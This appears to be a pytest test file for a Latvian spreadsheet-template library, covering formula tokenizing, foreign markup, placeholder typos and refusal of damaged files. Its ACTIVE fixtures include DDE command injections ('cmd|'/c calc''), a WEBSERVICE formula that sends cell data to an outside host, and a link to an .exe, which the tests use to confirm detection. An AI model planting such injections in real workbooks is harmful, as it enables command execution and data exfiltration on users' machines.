"""Forms that other programs wrote: each is stamped and proved, or refused in words that a person can act upon."""

from collections.abc import Mapping
from itertools import product

import pytest
from template_forms import KEYS, VALUES, changed, lines, opened, parts, simple_form

from pumpurs_xl.archive.forms import passive_template
from pumpurs_xl.template import Template, Unproven, compile_template, prove
from pumpurs_xl.template.formula.tokenizer import tokenize
from pumpurs_xl.template.slips import slips_in
from pumpurs_xl.values.a1 import Area
from pumpurs_xl.values.refusal import Refusal

SHEET, TYPES, BOOK = "xl/worksheets/sheet1.xml", "[Content_Types].xml", "xl/workbook.xml"
RELATIONS = "xl/_rels/workbook.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ROW = {"A5": "${rinda.npk}", "B5": "${rinda.eur}", "B6": "=SUM(B5:B5)"}
COUNTS = (0, 1, 3, 150)


def form(**cells: str) -> bytes:
    return simple_form(ROW | {"C2": "Paraksts"} | cells)


def edited(part: str, before: str, after: str, **cells: str) -> bytes:
    return changed(form(**cells), {part: (before, after)})


def stamped(source: bytes) -> bytes:
    """The form with three lines, proved with each number of lines."""
    template = compile_template(source, KEYS)
    for count in COUNTS:
        prove(template, template.stamp(VALUES, {"rinda": lines(count)}))
    return template.stamp(VALUES, {"rinda": lines(3)})


READS = (
    '<row r="2"><c r="B2" t="str"><v>${{partneris}}</v></c></row><row r="9"><c r="H9"><f>TYPE({})</f><v>1</v></c></row>'
)
LEADS = ["", "Lapa!", "'Ž 1'!", "[1]Lapa!", "'[12]Mans ''saraksts'''!", "[1]!"]
CELLS = ["A1", "A1:B9", "A:C", "2:7", "B9:A1"]


@pytest.mark.parametrize("lead, cells", list(product(LEADS, CELLS)))
def test_the_tokens_of_every_reference_join_back(lead: str, cells: str) -> None:
    for dollars in product(("", "$"), repeat=4):
        signs = iter(dollars)
        ends = []
        for end in cells.split(":"):
            column, row = end.rstrip("0123456789"), end.lstrip("ABC")
            ends.append("".join(next(signs) + name for name in (column, row) if name))
        formula = f"SUM({lead}{':'.join(ends)})*2"
        tokens = tokenize(formula)
        assert "".join(token.text for token in tokens) == formula
        assert [token.kind for token in tokens][2:4] == ["outer" if "[" in lead else "reference", "mark"]


@pytest.mark.parametrize("formula", ["[1]S!$B$2*2", "VLOOKUP(A1,'[1]Mans saraksts'!$A$2:$C$99,3,0)", "[1]!Vards+1"])
def test_a_reference_to_another_workbook_stays_as_it_is(formula: str) -> None:
    assert opened(stamped(form(D8="=" + formula)), values=False)["Lapa"]["D10"].value.endswith(
        formula.rpartition("[1]")[2]
    )


def test_a_reversed_range_is_kept() -> None:
    sheet = opened(stamped(form(D8="=SUM(B6:B4)")), values=True)["Lapa"]
    assert sheet["D10"].value == 12


FOREIGN = {
    "the view of Excel for Mac": (
        "</worksheet>",
        (
            '<extLst><ext uri="{64002731-A6B0-56B0-2670-7721B7C09600}" xmlns:mx="http://schemas.microsoft.com/office/mac/'
            'excel/2008/main"><mx:PLV Mode="0" OnePage="0" WScale="0"/></ext></extLst></worksheet>'
        ),
    ),
    "the last row of LibreOffice": ("</sheetData>", '<row r="1048576" ht="12.8"/></sheetData>'),
    "a whole column selected": (
        'workbookViewId="0"/>',
        'workbookViewId="0"><selection activeCell="D1" sqref="D:D 6:6"/></sheetView>',
    ),
    "a selection that is none": ('workbookViewId="0"/>', 'workbookViewId="0"><selection sqref="#REF!"/></sheetView>'),
    "a format of whole columns": (
        "</sheetData>",
        (
            '</sheetData><conditionalFormatting sqref="D:E"><cfRule type="expression" priority="1">'
            "<formula>$D1=2</formula></cfRule></conditionalFormatting>"
        ),
    ),
    "consolidation of nothing": ("</sheetData>", '</sheetData><dataConsolidate topLabels="1"/>'),
    "frozen rows below the block": (
        'workbookViewId="0"/>',
        'workbookViewId="0"><pane ySplit="6" topLeftCell="A7" activePane="bottomLeft" state="frozen"/></sheetView>',
    ),
    "a link in the row": (
        "</sheetData>",
        '</sheetData><hyperlinks><hyperlink ref="A5" location="Lapa!A9" display="x"/></hyperlinks>',
    ),
    "merges in other quotes": ("</sheetData>", "</sheetData><mergeCells><mergeCell ref='C5:D5'/></mergeCells>"),
}


@pytest.mark.parametrize("kind", FOREIGN)
def test_what_other_programs_write_into_a_sheet_is_stamped(kind: str) -> None:
    before, after = FOREIGN[kind]
    file = stamped(edited(SHEET, before, after))
    sheet = opened(file, values=True)["Lapa"]
    assert [sheet[f"B{row}"].value for row in (5, 6, 7, 8)] == [1, 2, 3, 6]


def test_frozen_rows_end_above_the_block_and_a_link_holds_for_all_lines() -> None:
    frozen = parts(stamped(edited(SHEET, *FOREIGN["frozen rows below the block"])))[SHEET].decode()
    assert '<pane ySplit="4" topLeftCell="A5"' in frozen
    linked = parts(stamped(edited(SHEET, *FOREIGN["a link in the row"])))[SHEET].decode()
    assert '<hyperlink ref="A5:A7" location="Lapa!A11"' in linked


def test_an_empty_table_of_texts_stays_with_its_mentions() -> None:
    source = form()
    sheet = parts(source)[SHEET].decode()
    inline = sheet
    for number, text in enumerate(["${rinda.npk}", "${rinda.eur}", "Paraksts"]):
        inline = inline.replace(f' t="s"><v>{number}</v>', f' t="inlineStr"><is><t>{text}</t></is>')
    whole = parts(source)["xl/sharedStrings.xml"].decode()
    empty = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="0"/>'
    file = stamped(changed(source, {SHEET: (sheet, inline), "xl/sharedStrings.xml": (whole, empty)}))
    assert parts(file)["xl/sharedStrings.xml"].decode() == empty


def test_an_empty_text_is_counted() -> None:
    stamped(edited("xl/sharedStrings.xml", "</sst>", "<si/></sst>"))


def test_the_proof_misses_no_part_and_no_mention() -> None:
    source = changed(form(), {}, {"customXml/item1.xml": "<x/>"})
    template = compile_template(source, KEYS)
    good = template.stamp(VALUES, {"rinda": lines(1)})
    for bad in (
        changed(good, {TYPES: ("sharedStrings+xml", "sharedStringz+xml")}),
        changed(good, {RELATIONS: ("sharedStrings.xml", "sharedString.xml")}),
        changed(good, {}, {"customXml/item2.xml": "<x/>"}),
    ):
        with pytest.raises(Unproven):
            prove(template, bad)


def test_types_by_ending_are_read_as_the_package_format_says() -> None:
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    override = f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
    source = changed(
        form(),
        {
            TYPES: (
                '<Default Extension="xml" ContentType="application/xml"/>',
                f'<Default Extension="XML" ContentType="{main}"/>',
            )
        },
    )
    stamped(changed(source, {TYPES: (override, "")}))


@pytest.mark.parametrize(
    "kind",
    ["vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml", "vnd.ms-excel.sheet.macroEnabled.main+xml"],
)
def test_another_kind_of_file_is_named(kind: str) -> None:
    ordinary = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    with pytest.raises(Refusal, match=r"fails ir .*Saglabāt kā"):
        compile_template(edited(TYPES, ordinary, kind), KEYS)
    with pytest.raises(Refusal, match="ciparparaksts"):
        compile_template(changed(form(), {}, {"_xmlsignatures/origin.sigs": ""}), KEYS)


@pytest.mark.parametrize(
    "formula",
    [
        '<f t="dataTable" ref="C2:C6" r1="E1"/>',
        '<f t="dataTable" ref="C2:C3" r1="E9"/>',
        '<f t="array" ref="C2:C7">E1</f>',
    ],
)
def test_an_area_of_formulas_that_reaches_the_block_is_refused(formula: str) -> None:
    source = form(C2="=E1")
    with pytest.raises(Refusal, match="Lapa!C2"):
        compile_template(changed(source, {SHEET: ("<f>E1</f>", formula)}), KEYS)


def test_formulas_that_share_a_text_are_written_together() -> None:
    source = form(B1="${partneris}", C1="=TEXT(B1,0)", C2="=TEXT(B2,0)")
    first = changed(source, {SHEET: ("<f>TEXT(B1,0)</f>", '<f t="shared" ref="C1:C2" si="0">TEXT(B1,0)</f>')})
    file = stamped(changed(first, {SHEET: ("<f>TEXT(B2,0)</f>", '<f t="shared" si="0"/>')}))
    sheet = parts(file)[SHEET].decode()
    assert "<f>TEXT(B2,0)</f>" in sheet
    assert "shared" not in sheet


def test_a_cell_with_a_bare_text_is_filled() -> None:
    source = form(C3="Kam")
    sheet = parts(source)[SHEET].decode()
    number = sheet.partition('<c r="C3" t="s"><v>')[2].partition("<")[0]
    cell = f'<c r="C3" t="s"><v>{number}</v></c>'
    file = stamped(changed(source, {SHEET: (cell, '<c r="C3" t="str"><v>Kam: ${partneris}</v></c>')}))
    assert opened(file, values=True)["Lapa"]["C3"].value == f"Kam: {VALUES['partneris']}"


def test_a_chain_of_formulas_is_followed() -> None:
    chain = {"E6": "=SUM(B5:B5)"} | {f"E{row}": f"=E{row - 1}+1" for row in range(7, 407)}
    assert opened(stamped(form(**chain)), values=True)["Lapa"]["E408"].value == 406


@pytest.mark.parametrize("area", ["B2", "A1:C3", "B1:B4", "A2:XFD2", "A:C", "2:2", "A2:B2", "C1:D4", "A3:C4", "A1:A2"])
def test_what_reads_a_filled_cell_is_known_whatever_area_it_reads(area: str) -> None:
    source = simple_form(ROW | {"A8": "x"}, ("Lapa", "Cita"))
    filled = changed(
        source, {"xl/worksheets/sheet2.xml": ("<sheetData/>", f"<sheetData>{READS.format(area)}</sheetData>")}
    )
    reads = Area.parse_loosely(area).holds(2, 2)
    assert ("Cita!H9" in " ".join(note.lv for note in compile_template(filled, KEYS).notes)) == reads


@pytest.mark.parametrize(
    "text, slip, meant",
    [
        ("{rinda.eur}", "{rinda.eur}", "rinda.eur"),
        ("$ {partneris}", "$ {partneris}", "partneris"),
        ("{{partneris}}", "{{partneris}}", "partneris"),
        ("$[kopa.eur]", "$[kopa.eur]", "kopa.eur"),
        ("$(kopa.eur)", "$(kopa.eur)", "kopa.eur"),
        ("＄｛partneris｝", "", ""),
        ("partneris}", "partneris}", "partneris"),
        ("{partnēris}", "{partnēris}", "partneris"),
        ("rinda.eur", "rinda.eur", "rinda.eur"),
        ("{{aaaaaaaa}}", "{{aaaaaaaa}}", ""),
    ],
)
def test_a_misspelt_placeholder_is_told_with_the_key_that_was_meant(text: str, slip: str, meant: str) -> None:
    found = list(slips_in(f"Summa {text} EUR", KEYS))
    assert found == ([(slip, meant)] if slip else [("${partneris}", "partneris")])
    assert any(slip in note.lv for note in compile_template(form(C3=text), KEYS).notes)


@pytest.mark.parametrize(
    "text", ["(partneris)", "$(100)", "[veids]", "{1; 2}", "Summa (EUR) <bez PVN>", "kopā 5.00", "${partneris}"]
)
def test_brackets_in_prose_are_left_alone(text: str) -> None:
    assert not list(slips_in(text, KEYS))


def test_slips_outside_cells_are_told() -> None:
    footer = "<headerFooter><oddFooter>{partneris}</oddFooter></headerFooter>"
    noted = compile_template(edited(SHEET, "</sheetData>", f"</sheetData>{footer}"), KEYS).notes
    assert [note.en.partition(":")[0] for note in noted] == ["Lapa, a page header or footer or a rule of cells"]
    titled = compile_template(
        changed(form(), {"docProps/core.xml": ("<dc:creator>", "<dc:title>${partneris}</dc:title><dc:creator>")}), KEYS
    )
    assert "docu" in titled.notes[0].en
    assert compile_template(simple_form(ROW, ("{menesis}",)), KEYS).notes[0].lv.count("${menesis}") == 1


def with_relation(kind: str, target: str, **more: str) -> bytes:
    attributes = "".join(f' {name}="{value}"' for name, value in more.items())
    link = f'<Relationship Id="rId77" Type="{OFFICE}/{kind}" Target="{target}"{attributes}/></Relationships>'
    return edited(RELATIONS, "</Relationships>", link)


ACTIVE: Mapping[str, bytes] = {
    "a connection": changed(
        with_relation("connections", "connections.xml"), {}, {"xl/connections.xml": "<connections/>"}
    ),
    "a stray macro": changed(form(), {}, {"xl/vbaProject.bin": ""}),
    "a web service": form(D1='=_xlfn.WEBSERVICE("http://a.lv/"&C2)'),
    "a dynamic link": form(D1="=cmd|'/c calc'!A0"),
    "a link made of a cell": form(D1='=HYPERLINK("file:///"&C2)'),
    "a hidden sheet": edited(BOOK, 'sheetId="1"', 'sheetId="1" state="veryHidden"'),
    "a picture elsewhere": with_relation("image", "http://a.lv/x.png", TargetMode="External"),
    "a link to a file": with_relation("hyperlink", "file:///C:/x.exe", TargetMode="External"),
    "an object": changed(with_relation("oleObject", "embeddings/o.bin"), {}, {"xl/embeddings/o.bin": ""}),
    "a command of a name": edited(
        BOOK,
        "</sheets>",
        "</sheets><definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames>",
    ),
}


@pytest.mark.parametrize("kind", ACTIVE)
def test_active_content_is_told_and_stamped_only_where_allowed(
    kind: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("veidne") / "ED.xlsx"
    path.write_bytes(ACTIVE[kind])
    with pytest.raises(Refusal, match="--allow-active"):
        passive_template(path, "ED", allow_active=False)
    template: Template = passive_template(path, "ED", allow_active=True)
    assert len(template.active) == 1


@pytest.mark.parametrize("address", ["https://www.viaa.gov.lv", "mailto:a@b.lv"])
def test_a_link_to_a_page_is_harmless(address: str) -> None:
    source = with_relation("hyperlink", address, TargetMode="External")
    assert compile_template(source, KEYS).active == ()
    assert compile_template(form(D1=f'=HYPERLINK("{address}")'), KEYS).active == ()


@pytest.mark.parametrize(
    "edit",
    [
        (SHEET, "</sheetData>", f"</sheetData>{'<a>' * 3000}{'</a>' * 3000}"),
        (
            BOOK,
            "</sheets>",
            '</sheets><definedNames><definedName name="x" localSheetId="7">1</definedName></definedNames>',
        ),
    ],
)
def test_a_damaged_form_is_refused_in_plain_words(edit: tuple[str, str, str]) -> None:
    with pytest.raises(Refusal, match="bojāta"):
        compile_template(edited(*edit), KEYS)
